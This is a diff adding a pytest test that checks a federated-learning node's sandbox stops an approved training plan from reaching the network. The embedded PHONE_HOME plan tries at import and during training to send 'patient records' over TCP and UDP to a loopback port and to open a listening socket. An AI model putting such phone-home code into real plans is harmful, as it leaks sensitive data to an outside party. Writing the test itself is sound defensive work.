@@ -11,6 +11,8 @@ refused with ``PermissionError`` and the reply carries nothing of them.
 from __future__ import annotations
 
 import os
+import socket
+import threading
 
 import numpy as np
 import pandas as pd
@@ -146,3 +148,104 @@ def test_a_plan_that_kills_its_worker_fails_its_round_and_the_next_round_works(s
     assert record["researcher"] == "alice"  # as the node trusts the key, not as claimed
     again = attacker.ask("site", _request(wire, dataset), round=2).body
     assert isinstance(again, TrainReply) and again.n_samples == len(X)
+
+
+PHONE_HOME = '''
+import socket
+
+from sklearn.linear_model import SGDClassifier
+
+from fedcore_sklearn import SklearnTrainingPlan
+
+PORT = PORT_HERE
+
+
+def _call():
+    got = {}
+    try:
+        with socket.create_connection(("127.0.0.1", PORT), timeout=5) as s:
+            s.sendall(b"the patients' records")
+        got["tcp"] = "connected"
+    except OSError as exc:
+        got["tcp"] = type(exc).__name__
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.sendto(b"the patients' records", ("127.0.0.1", PORT))
+        got["udp"] = "sent"
+    except OSError as exc:
+        got["udp"] = type(exc).__name__
+    try:
+        with socket.socket() as s:
+            s.bind(("127.0.0.1", 0))
+            s.listen()
+        got["listen"] = "listening"
+    except OSError as exc:
+        got["listen"] = type(exc).__name__
+    return got
+
+
+AT_IMPORT = _call()
+
+
+class PhoneHomePlan(SklearnTrainingPlan):
+    estimator = SGDClassifier
+
+    def fit(self, dataset, seed):
+        stats = dict(super().fit(dataset, seed) or {})
+        stats.update({"import_" + k: v for k, v in AT_IMPORT.items()})
+        stats.update({"fit_" + k: v for k, v in _call().items()})
+        return stats
+'''
+
+
+def test_an_approved_plan_cannot_connect_to_a_host_it_controls(site):
+    """The researcher's own server (here on loopback) hears nothing from the plan."""
+    node, attacker, wire, dataset = site
+    heard: list[tuple[str, bytes]] = []
+    with socket.socket() as server, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        server.bind(("127.0.0.1", 0))
+        server.listen()
+        port = server.getsockname()[1]
+        udp.bind(("127.0.0.1", port))
+        udp.settimeout(0.2)
+
+        def listen() -> None:
+            server.settimeout(0.2)
+            while not stop.is_set():
+                for sock in (server, udp):
+                    try:
+                        if sock is server:
+                            conn, _ = sock.accept()
+                            heard.append(("tcp", conn.recv(100)))
+                            conn.close()
+                        else:
+                            heard.append(("udp", sock.recv(100)))
+                    except OSError:
+                        pass
+
+        stop = threading.Event()
+        listener = threading.Thread(target=listen, daemon=True)
+        listener.start()
+        bundle = PlanBundle(files={"plan.py": PHONE_HOME.replace("PORT_HERE", str(port))},
+                            entry="PhoneHomePlan", backend="sklearn")
+        node.plans.submit(bundle)
+        node.plans.approve(bundle.sha256)
+        try:
+            reply = attacker.ask("site", _request(bundle.to_wire(), dataset)).body
+        finally:
+            stop.set()
+            listener.join(5)
+    assert isinstance(reply, TrainReply), reply
+    stats = reply.train_stats
+    network = node._workers.network
+    print(f"\nthe worker's network: {network}; the plan got {stats}")
+    if network == "open":
+        pytest.skip("this kernel keeps the worker off the network neither way (no user "
+                    "namespace, Landlock ABI < 4): the host must block it, as the docs say")
+    for when in ("import", "fit"):  # module code and the training step alike
+        assert stats[f"{when}_tcp"] == "PermissionError" if network == "tcp" else \
+            stats[f"{when}_tcp"] != "connected", stats
+        assert stats[f"{when}_listen"] != "listening", stats
+    assert [h for h in heard if h[0] == "tcp"] == [], heard  # the server heard nothing
+    if "namespace" in network:  # no network at all: UDP (DNS...) goes nowhere either
+        assert heard == [], heard
